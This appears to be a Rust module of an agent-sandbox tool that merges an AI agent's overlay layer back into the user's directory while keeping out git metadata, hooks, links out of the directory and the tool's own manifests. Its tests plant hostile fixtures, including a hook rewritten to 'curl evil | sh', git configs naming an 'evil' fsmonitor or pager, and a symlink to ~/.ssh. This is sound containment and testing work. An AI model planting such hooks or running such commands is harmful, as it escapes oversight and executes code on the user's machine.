//! Bringing the agent's work back from its layer into your dir, without anything your own
//! tools would later run.
//!
//! [`plan`] reads the upper layer (what the agent wrote, deleted and replaced) and your dir,
//! and decides per entry; [`apply`] carries the decisions out. Never written into your dir:
//!
//! - version-control metadata anywhere in the tree (`.git` dirs and `gitdir:` files, `.hg`,
//!   `.jj`, …): git reads a repo's config, and that config can name commands it runs
//!   (`core.fsmonitor`, `core.pager`, filters, aliases) whenever you or your shell prompt run
//!   git there;
//! - whatever the agent wrote in a dir with a git dir's shape (`HEAD` beside `objects/` and
//!   `refs/`, or a `commondir`), which git also takes for a repo;
//! - anything under a path your git runs or reads as config ([`Guarded`]);
//! - a manifest bottle would find, `agents/<name>.yaml` (the agent does not write the
//!   configuration of its own box, nor of another: a changed one asks your consent again, but
//!   a hostile edit is best not offered at all);
//! - a link that leads out of your dir (absolute, or climbing above it);
//! - FIFOs, sockets and devices.
//!
//! Those are kept in an archive beside the run's log (never as a dir: a `.git` there would
//! be a repo again) and reported. An entry of yours the agent replaces or removes is moved to
//! a backup dir first, not unlinked; one you changed during the run, one that holds a repo,
//! or one your git runs, stays as it is. Everything is done through dir handles opened
//! without following links, so a link the agent planted never leads a write out of your dir.

mod apply;
mod plan;

pub use apply::{Destinations, apply};
pub use plan::{Inputs, plan};

use std::ffi::OsStr;
use std::path::{Path, PathBuf};

/// Names of version-control metadata, compared without case (a case-insensitive filesystem
/// finds `.GIT` as `.git`; `git~1` is `.git`'s short name on Windows filesystems).
pub const VCS_NAMES: &[&str] = &[
    ".git",
    "git~1",
    ".hg",
    ".svn",
    ".bzr",
    "_darcs",
    ".jj",
    ".pijul",
    ".sl",
    ".fslckout",
    "_fossil_",
];

/// Whether `name` is version-control metadata.
pub fn is_vcs_name(name: &OsStr) -> bool {
    let n = name.to_string_lossy().to_ascii_lowercase();
    VCS_NAMES.contains(&n.as_str())
}

/// Why an entry of the agent's layer was kept out of your dir.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "kebab-case", tag = "kind", content = "detail")]
pub enum SetAside {
    /// Version-control metadata (`.git`, …).
    VcsMetadata,
    /// It is in a dir with a git dir's shape (`HEAD` with `objects/` and `refs/`, or
    /// `commondir`), or would make one.
    GitDirShape,
    /// Your git runs it or reads it (what names it).
    GitRuns(String),
    /// A link that leads out of your dir.
    LinkOut,
    /// A FIFO, socket or device.
    Special(&'static str),
    /// It would replace an entry of yours that stays (see [`Kept`]).
    YoursKept(Kept),
}

impl std::fmt::Display for SetAside {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SetAside::VcsMetadata => f.write_str("version-control metadata"),
            SetAside::GitDirShape => f.write_str("in or making a git repository's dir"),
            SetAside::GitRuns(key) => write!(f, "your git runs or reads it ({key})"),
            SetAside::LinkOut => f.write_str("a link that leads, or may lead, out of your dir"),
            SetAside::Special(kind) => write!(f, "a {kind}"),
            SetAside::YoursKept(why) => write!(f, "yours is kept: {why}"),
        }
    }
}

/// Why an entry of yours stays as it is though the agent replaced or removed it.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "kebab-case", tag = "kind", content = "detail")]
pub enum Kept {
    /// You changed it during the run.
    ChangedDuringRun,
    /// It is or holds a repository (a nested repo's commits, say).
    HoldsVcs,
    /// Your git runs or reads something at or below it (what names it).
    GitRuns(String),
}

impl std::fmt::Display for Kept {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Kept::ChangedDuringRun => f.write_str("you changed it during the run"),
            Kept::HoldsVcs => f.write_str("it holds a repository"),
            Kept::GitRuns(key) => write!(f, "your git runs or reads what is below it ({key})"),
        }
    }
}

/// One decision about one path (relative to your dir).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Step {
    /// Write the agent's regular file.
    Write(PathBuf),
    /// Write the agent's symbolic link (never followed).
    Link(PathBuf),
    /// Make sure this dir exists.
    Dir(PathBuf),
    /// Remove this entry of yours (the agent deleted it): into the backup.
    Remove(PathBuf),
    /// Keep the agent's entry out of your dir.
    SetAside(PathBuf, SetAside),
    /// The agent deleted an entry of yours that stays (see [`Kept`]).
    KeepYours(PathBuf, Kept),
    /// The agent's entry could not be read; it stays in the layer.
    Unreadable(PathBuf, String),
}

impl Step {
    /// The path the step is about.
    pub fn path(&self) -> &Path {
        match self {
            Step::Write(p)
            | Step::Link(p)
            | Step::Dir(p)
            | Step::Remove(p)
            | Step::SetAside(p, _)
            | Step::KeepYours(p, _)
            | Step::Unreadable(p, _) => p,
        }
    }
}

/// Paths of your dir your git runs or reads as config: none of the agent's changes under them
/// is written back.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Guarded {
    /// Path relative to your dir, and what names it (a config key, a hook manager).
    pub paths: Vec<(PathBuf, String)>,
    /// Your dir, and the dirs in it (relative) that were too large or too deep to search for
    /// repositories: a repo found in one when the merge asks is guarded whole.
    pub unsearched: Option<(PathBuf, Vec<PathBuf>)>,
}

/// Why a path in a repository bottle did not search is kept as it is.
const IN_UNSEARCHED_REPO: &str =
    "in a repository too far down to have its config read (every change in it is kept out)";

/// The dir bottle finds agent manifests in, under whichever dir you run it from.
const MANIFESTS_DIR: &str = "agents";

/// Why a manifest bottle would find is kept as it is.
const A_MANIFEST: &str =
    "a bottle manifest (agents/<name>.yaml): the agent does not write what configures a box";

/// Whether `rel` is a manifest bottle would find by name in your dir (`agents/<name>.yaml`
/// or `.yml`: your dir is where you run bottle from). A project's own `agents/` dirs deeper
/// down are its business.
fn is_manifest(rel: &Path) -> bool {
    rel.parent().is_some_and(|d| d == Path::new(MANIFESTS_DIR))
        && rel.extension().is_some_and(|e| e == "yaml" || e == "yml")
}

impl Guarded {
    /// What guards `rel`, if it is at or under a guarded path, or a manifest.
    pub fn guard(&self, rel: &Path) -> Option<&str> {
        self.paths
            .iter()
            .find(|(p, _)| rel.starts_with(p))
            .map(|(_, k)| k.as_str())
            .or_else(|| is_manifest(rel).then_some(A_MANIFEST))
            .or_else(|| self.in_unsearched_repo(rel))
    }

    /// What guards `rel`, if it is at, under or above a guarded path (a link or file put in
    /// place of a guarded path's parent would lead git elsewhere), a manifest, or a manifests
    /// dir (a link put there would lead bottle to the agent's own files).
    pub fn touches(&self, rel: &Path) -> Option<&str> {
        self.paths
            .iter()
            .find(|(p, _)| rel.starts_with(p) || p.starts_with(rel))
            .map(|(_, k)| k.as_str())
            .or_else(|| (is_manifest(rel) || rel == Path::new(MANIFESTS_DIR)).then_some(A_MANIFEST))
            .or_else(|| self.in_unsearched_repo(rel))
    }

    /// Whether `rel` lies in a repository of yours (a `.git` in your dir, at or above it) under
    /// a dir that was not searched: its config was never read, so nothing of it is written.
    fn in_unsearched_repo(&self, rel: &Path) -> Option<&str> {
        let (root, dirs) = self.unsearched.as_ref()?;
        let top = dirs.iter().find(|d| rel.starts_with(d))?;
        rel.ancestors()
            .take_while(|a| a.starts_with(top))
            .any(|a| std::fs::symlink_metadata(root.join(a).join(".git")).is_ok())
            .then_some(IN_UNSEARCHED_REPO)
    }
}

/// Why the layer could not be read at all (its root).
#[derive(Debug, thiserror::Error)]
#[error("reading the agent's layer at {}: {error}", bottle_contract::terminal::safe(&path.display().to_string()))]
pub struct PlanError {
    /// Where.
    pub path: PathBuf,
    /// What.
    pub error: std::io::Error,
}

/// What [`apply`] did.
#[derive(Debug, Clone, Default, serde::Serialize)]
pub struct Report {
    /// Files and links written into your dir.
    pub written: Vec<PathBuf>,
    /// Entries of yours removed (the agent deleted them); they are in the backup.
    pub removed: Vec<PathBuf>,
    /// Entries of yours the agent's replaced; they are in the backup.
    pub replaced: Vec<PathBuf>,
    /// Entries kept out of your dir, and why.
    pub set_aside: Vec<(PathBuf, SetAside)>,
    /// Entries of yours the agent deleted that stay, and why.
    pub kept_yours: Vec<(PathBuf, Kept)>,
    /// Steps that failed, and why: what they were about stays in the layer.
    pub failed: Vec<(PathBuf, String)>,
    /// The archive of the set-aside entries, once one was written.
    pub set_aside_archive: Option<PathBuf>,
    /// The dir of your removed and replaced entries, once one was moved there.
    pub backup_dir: Option<PathBuf>,
}

impl Report {
    /// Whether nothing came back and nothing was set aside.
    pub fn is_empty(&self) -> bool {
        self.written.is_empty()
            && self.removed.is_empty()
            && self.replaced.is_empty()
            && self.set_aside.is_empty()
            && self.kept_yours.is_empty()
            && self.failed.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rustix::fs::Mode;
    use std::os::unix::fs::PermissionsExt as _;
    use std::time::SystemTime;

    fn write(root: &Path, rel: &str, text: &str) {
        let p = root.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }

    fn read(root: &Path, rel: &str) -> Option<String> {
        std::fs::read_to_string(root.join(rel)).ok()
    }

    /// A whiteout as overlayfs makes it (a 0:0 character device); only root can make one.
    fn whiteout(root: &Path, rel: &str) -> bool {
        rustix::fs::mknodat(
            rustix::fs::CWD,
            root.join(rel),
            rustix::fs::FileType::CharacterDevice,
            Mode::empty(),
            0,
        )
        .is_ok()
    }

    struct Case {
        _t: tempfile::TempDir,
        lower: PathBuf,
        upper: PathBuf,
        to: Destinations,
        started: SystemTime,
    }

    fn case() -> Case {
        let t = tempfile::tempdir().unwrap();
        let (lower, upper) = (t.path().join("yours"), t.path().join("upper"));
        std::fs::create_dir_all(&lower).unwrap();
        std::fs::create_dir_all(&upper).unwrap();
        write(&lower, "a.txt", "yours\n");
        write(&lower, "gone.txt", "bye\n");
        write(&lower, "dir/x", "x\n");
        write(&lower, ".git/config", "[core]\n");
        write(&lower, "sub/.git/HEAD", "ref: refs/heads/main\n");
        write(&lower, "sub/file", "in a nested repo of yours\n");
        // Change times are coarse (a clock tick): "started" lies clearly after the above.
        std::thread::sleep(std::time::Duration::from_millis(20));
        let started = SystemTime::now();
        std::thread::sleep(std::time::Duration::from_millis(20));
        let to = Destinations {
            archive: t.path().join("logs/x.set-aside.tar"),
            backup: t.path().join("logs/x.replaced"),
            changes: t.path().join("logs/x.changes.txt"),
        };
        Case {
            _t: t,
            lower,
            upper,
            to,
            started,
        }
    }

    fn run(c: &Case, guarded: &Guarded) -> (Vec<Step>, Report) {
        let steps = plan(&Inputs {
            upper: &c.upper,
            lower: &c.lower,
            started: c.started,
            guarded,
        })
        .unwrap();
        let report = apply(&c.upper, &c.lower, &c.to, &steps);
        (steps, report)
    }

    fn aside_paths(r: &Report) -> Vec<String> {
        r.set_aside
            .iter()
            .map(|(p, _)| p.display().to_string())
            .collect()
    }

    /// The names in the set-aside archive.
    fn archived(c: &Case) -> Vec<String> {
        let f = std::fs::File::open(&c.to.archive).unwrap();
        tar::Archive::new(f)
            .entries()
            .unwrap()
            .map(|e| e.unwrap().path().unwrap().display().to_string())
            .map(|p| p.trim_end_matches('/').to_owned())
            .collect()
    }

    /// The agent edits a manifest bottle would find, adds one (which would shadow yours in
    /// the config dir), and puts a link where the manifests dir was: none of it comes back;
    /// its other files there, and a project's own `agents/` deeper down, do.
    #[test]
    fn a_manifest_bottle_would_find_is_never_the_agents() {
        let c = case();
        write(&c.lower, "agents/claude.yaml", "image: yours\n");
        write(&c.upper, "agents/claude.yaml", "image: the-agents\n");
        write(&c.upper, "agents/new.yml", "image: the-agents\n");
        write(&c.upper, "agents/notes.md", "fine\n");
        write(&c.upper, "sub/agents/x.yml", "the project's own\n");
        let (_, report) = run(&c, &Guarded::default());
        assert_eq!(
            read(&c.lower, "agents/claude.yaml").as_deref(),
            Some("image: yours\n")
        );
        assert_eq!(read(&c.lower, "agents/new.yml"), None);
        assert_eq!(read(&c.lower, "agents/notes.md").as_deref(), Some("fine\n"));
        assert_eq!(
            read(&c.lower, "sub/agents/x.yml").as_deref(),
            Some("the project's own\n")
        );
        let aside = aside_paths(&report);
        for want in ["agents/claude.yaml", "agents/new.yml"] {
            assert!(aside.iter().any(|p| p == want), "{want} not in {aside:?}");
        }
        // A link where the manifests dir was.
        let c = case();
        write(&c.lower, "agents/claude.yaml", "image: yours\n");
        std::os::unix::fs::symlink("dir", c.upper.join("agents")).unwrap();
        let (_, report) = run(&c, &Guarded::default());
        assert!(c.lower.join("agents").is_dir());
        assert!(aside_paths(&report).iter().any(|p| p == "agents"));
    }

    /// Another user who can write in your dir swaps the agent's file, the moment it has moved
    /// in, for a link to a file of yours: the merge sets nothing through that link (the mode
    /// and ACLs are set on the open file before the move).
    #[test]
    fn a_link_swapped_in_after_a_move_is_never_followed() {
        let c = case();
        let victim = c._t.path().join("secret");
        std::fs::write(&victim, "yours alone\n").unwrap();
        std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o600)).unwrap();
        write(&c.upper, "moved.txt", "the agent's\n");
        std::fs::set_permissions(
            c.upper.join("moved.txt"),
            std::fs::Permissions::from_mode(0o644),
        )
        .unwrap();
        let target = victim.clone();
        apply::tests::on_move(move |path| {
            std::fs::remove_file(path).unwrap();
            std::os::unix::fs::symlink(&target, path).unwrap();
        });
        let (_, report) = run(&c, &Guarded::default());
        apply::tests::on_move(|_| {});
        assert!(report.failed.is_empty(), "{:?}", report.failed);
        let mode = std::fs::metadata(&victim).unwrap().permissions().mode();
        assert_eq!(
            mode & 0o777,
            0o600,
            "the merge changed a file through a link"
        );
    }

    #[test]
    fn the_agents_files_come_back_and_git_metadata_never_does() {
        let c = case();
        write(&c.upper, "a.txt", "the agent's\n");
        write(&c.upper, "new/deep/file.rs", "fn main() {}\n");
        write(&c.upper, ".git/config", "[core]\n\tfsmonitor = evil\n");
        write(&c.upper, "x/.git/config", "[core]\n\tfsmonitor = evil\n");
        write(&c.upper, "y/.GIT", "gitdir: ../z\n");
        write(&c.upper, "hg/.hg/hgrc", "[hooks]\n");
        std::os::unix::fs::symlink("../a.txt", c.upper.join("new/link")).unwrap();
        std::os::unix::fs::symlink("/home/you/.ssh", c.upper.join("out")).unwrap();
        std::os::unix::fs::symlink("../../..", c.upper.join("new/up")).unwrap();
        write(&c.upper, "suid", "#!/bin/sh\n");
        std::fs::set_permissions(
            c.upper.join("suid"),
            std::fs::Permissions::from_mode(0o4777),
        )
        .unwrap();
        rustix::fs::mknodat(
            rustix::fs::CWD,
            c.upper.join("pipe"),
            rustix::fs::FileType::Fifo,
            Mode::from_raw_mode(0o644),
            0,
        )
        .unwrap();
        let (_, r) = run(&c, &Guarded::default());
        assert!(r.failed.is_empty(), "{:?}", r.failed);
        assert_eq!(read(&c.lower, "a.txt").as_deref(), Some("the agent's\n"));
        assert_eq!(
            read(&c.lower, "new/deep/file.rs").as_deref(),
            Some("fn main() {}\n")
        );
        assert_eq!(read(&c.lower, ".git/config").as_deref(), Some("[core]\n"));
        assert_eq!(
            std::fs::read_link(c.lower.join("new/link")).unwrap(),
            Path::new("../a.txt")
        );
        let mode = std::fs::metadata(c.lower.join("suid"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(
            mode & 0o7777,
            0o755,
            "no setuid bit and no write for others come back"
        );
        for gone in ["x/.git", "y/.GIT", "hg/.hg", "pipe", "out", "new/up"] {
            assert!(
                std::fs::symlink_metadata(c.lower.join(gone)).is_err(),
                "{gone}"
            );
        }
        let aside = aside_paths(&r);
        for kept_out in [
            ".git", "x/.git", "y/.GIT", "hg/.hg", "pipe", "out", "new/up",
        ] {
            assert!(
                aside.contains(&kept_out.to_owned()),
                "{kept_out}: {aside:?}"
            );
        }
        // Kept in an archive, never as a dir git could take for a repo.
        let names = archived(&c);
        for kept in [".git/config", "x/.git/config", "y/.GIT", "out"] {
            assert!(names.contains(&kept.to_owned()), "{kept}: {names:?}");
        }
        assert_eq!(r.set_aside_archive.as_deref(), Some(c.to.archive.as_path()));
        // What the agent replaced of yours is in the backup.
        assert_eq!(r.replaced, [PathBuf::from("a.txt")]);
        assert_eq!(read(&c.to.backup, "a.txt").as_deref(), Some("yours\n"));
    }

    #[test]
    fn whatever_the_agent_writes_in_a_git_dir_shape_stays_out() {
        let c = case();
        write(&c.upper, "b/HEAD", "ref: refs/heads/main\n");
        write(&c.upper, "b/config", "[core]\n\tpager = evil\n");
        std::fs::create_dir_all(c.upper.join("b/objects")).unwrap();
        std::fs::create_dir_all(c.upper.join("b/refs/heads")).unwrap();
        write(&c.upper, "b/notes.md", "also out\n");
        // `commondir` makes a git dir of HEAD alone.
        write(
            &c.upper,
            "w/HEAD",
            "0000000000000000000000000000000000000000\n",
        );
        write(&c.upper, "w/commondir", "../.git\n");
        // objects/ and refs/ alone, as many projects have: no HEAD, no shape.
        write(&c.upper, "src/objects/a.rs", "\n");
        write(&c.upper, "src/refs/b.rs", "\n");
        // In a git dir of yours under another name (a bare repo): everything the agent wrote.
        write(&c.lower, "backup.git/HEAD", "ref: refs/heads/main\n");
        std::fs::create_dir_all(c.lower.join("backup.git/objects")).unwrap();
        std::fs::create_dir_all(c.lower.join("backup.git/refs")).unwrap();
        write(
            &c.upper,
            "backup.git/rebase-merge/git-rebase-todo",
            "exec evil\n",
        );
        write(&c.upper, "backup.git/MERGE_MSG", "x\n");
        // A dir of yours the agent only makes into one: its writes there stay out.
        write(&c.lower, "dir/keep.md", "yours\n");
        write(&c.upper, "dir/HEAD", "ref: refs/heads/main\n");
        std::fs::create_dir_all(c.upper.join("dir/objects")).unwrap();
        std::fs::create_dir_all(c.upper.join("dir/refs")).unwrap();
        write(&c.upper, "dir/new.md", "also out\n");
        let (_, r) = run(&c, &Guarded::default());
        assert!(r.failed.is_empty(), "{:?}", r.failed);
        let aside = aside_paths(&r);
        for p in [
            "b",
            "w",
            "backup.git/rebase-merge",
            "backup.git/MERGE_MSG",
            "dir/HEAD",
            "dir/objects",
            "dir/refs",
            "dir/new.md",
        ] {
            assert!(aside.contains(&p.to_owned()), "{p}: {aside:?}");
        }
        for p in [
            "b",
            "w",
            "backup.git/rebase-merge",
            "dir/HEAD",
            "dir/new.md",
        ] {
            assert!(
                std::fs::symlink_metadata(c.lower.join(p)).is_err(),
                "{p} not in your dir"
            );
        }
        assert!(c.lower.join("src/objects/a.rs").is_file());
        assert_eq!(read(&c.lower, "dir/keep.md").as_deref(), Some("yours\n"));
    }

    #[test]
    fn what_your_git_runs_never_comes_back() {
        let c = case();
        write(&c.lower, ".husky/pre-commit", "npm test\n");
        write(&c.upper, ".husky/pre-commit", "curl evil | sh\n");
        write(&c.upper, "tools/fsmon.sh", "evil\n");
        write(&c.upper, "tools/other.sh", "fine\n");
        // A link put where a guarded path's parent was would lead git elsewhere.
        std::os::unix::fs::symlink("new", c.upper.join("scripts")).unwrap();
        let guarded = Guarded {
            paths: vec![
                (".husky".into(), "core.hookspath".into()),
                ("scripts/hook.sh".into(), "alias.x".into()),
                ("tools/fsmon.sh".into(), "core.fsmonitor".into()),
            ],
            ..Guarded::default()
        };
        let (_, r) = run(&c, &guarded);
        assert_eq!(
            read(&c.lower, ".husky/pre-commit").as_deref(),
            Some("npm test\n")
        );
        assert!(!c.lower.join("tools/fsmon.sh").exists());
        assert_eq!(read(&c.lower, "tools/other.sh").as_deref(), Some("fine\n"));
        assert!(std::fs::symlink_metadata(c.lower.join("scripts")).is_err());
        assert_eq!(aside_paths(&r), [".husky", "scripts", "tools/fsmon.sh"]);
    }

    #[test]
    fn a_file_you_changed_during_the_run_keeps_your_version() {
        let c = case();
        write(&c.lower, "a.txt", "changed by you meanwhile\n");
        write(&c.upper, "a.txt", "the agent's\n");
        let (_, r) = run(&c, &Guarded::default());
        assert_eq!(
            read(&c.lower, "a.txt").as_deref(),
            Some("changed by you meanwhile\n")
        );
        assert_eq!(archived(&c), ["a.txt"]);
        assert_eq!(
            r.set_aside,
            [(
                PathBuf::from("a.txt"),
                SetAside::YoursKept(Kept::ChangedDuringRun)
            )]
        );
    }

    #[test]
    fn deletions_go_to_the_backup_but_never_of_a_repo_or_what_you_changed() {
        let c = case();
        if !rustix::process::geteuid().is_root() {
            eprintln!("skipped: whiteouts (as overlayfs makes them) need root to make");
            return;
        }
        write(&c.lower, "bare.git/HEAD", "ref: refs/heads/main\n");
        std::fs::create_dir_all(c.lower.join("bare.git/objects")).unwrap();
        std::fs::create_dir_all(c.lower.join("bare.git/refs")).unwrap();
        std::thread::sleep(std::time::Duration::from_millis(20));
        let c = Case {
            started: SystemTime::now(),
            ..c
        };
        assert!(whiteout(&c.upper, "gone.txt"));
        assert!(whiteout(&c.upper, "sub"));
        assert!(whiteout(&c.upper, "bare.git"));
        // `rm -rf dir; mkdir dir; touch dir/y`: an opaque dir.
        write(&c.upper, "dir/y", "y\n");
        rustix::fs::setxattr(
            c.upper.join("dir"),
            "user.overlay.opaque",
            b"y",
            rustix::fs::XattrFlags::empty(),
        )
        .unwrap();
        let (_, r) = run(&c, &Guarded::default());
        assert!(r.failed.is_empty(), "{:?}", r.failed);
        assert!(!c.lower.join("gone.txt").exists());
        assert!(!c.lower.join("dir/x").exists());
        assert!(c.lower.join("dir/y").exists());
        assert!(
            c.lower.join("sub/.git/HEAD").exists(),
            "a nested repo of yours stays"
        );
        assert!(
            c.lower.join("bare.git/HEAD").exists(),
            "a bare repo of yours stays"
        );
        assert_eq!(
            r.kept_yours,
            [
                (PathBuf::from("bare.git"), Kept::HoldsVcs),
                (PathBuf::from("sub"), Kept::HoldsVcs)
            ]
        );
        assert_eq!(
            r.removed,
            [PathBuf::from("dir/x"), PathBuf::from("gone.txt")]
        );
        assert_eq!(read(&c.to.backup, "gone.txt").as_deref(), Some("bye\n"));
        assert_eq!(read(&c.to.backup, "dir/x").as_deref(), Some("x\n"));
    }

    #[test]
    fn a_link_in_your_dir_never_leads_a_write_out_of_it_and_modes_never_widen() {
        let c = case();
        let outside = tempfile::tempdir().unwrap();
        std::os::unix::fs::symlink(outside.path(), c.lower.join("out")).unwrap();
        write(&c.upper, "out/evil", "x\n");
        std::fs::set_permissions(c.lower.join("dir"), std::fs::Permissions::from_mode(0o750))
            .unwrap();
        write(&c.upper, "dir/new", "n\n");
        std::fs::set_permissions(c.upper.join("dir"), std::fs::Permissions::from_mode(0o777))
            .unwrap();
        let (_, r) = run(&c, &Guarded::default());
        assert!(!outside.path().join("evil").exists());
        assert!(r.failed.is_empty(), "{:?}", r.failed);
        let mode = std::fs::metadata(c.lower.join("dir"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o750, "a dir of yours keeps its mode");
        // Whatever the plan, a write under a link fails rather than follow it.
        let r = apply(&c.upper, &c.lower, &c.to, &[Step::Write("out/evil".into())]);
        assert!(!outside.path().join("evil").exists());
        assert_eq!(r.failed.len(), 1, "{r:?}");
    }

    #[test]
    fn an_entry_that_cannot_be_read_stays_in_the_layer_and_the_rest_comes_back() {
        let c = case();
        if rustix::process::geteuid().is_root() {
            eprintln!("skipped: root reads every dir");
            return;
        }
        write(&c.upper, "locked/a", "a\n");
        write(&c.upper, "fine", "f\n");
        std::fs::set_permissions(
            c.upper.join("locked"),
            std::fs::Permissions::from_mode(0o000),
        )
        .unwrap();
        let (_, r) = run(&c, &Guarded::default());
        std::fs::set_permissions(
            c.upper.join("locked"),
            std::fs::Permissions::from_mode(0o700),
        )
        .unwrap();
        assert_eq!(read(&c.lower, "fine").as_deref(), Some("f\n"));
        assert_eq!(r.failed.len(), 1, "{r:?}");
        assert_eq!(r.failed[0].0, PathBuf::from("locked"));
    }
}
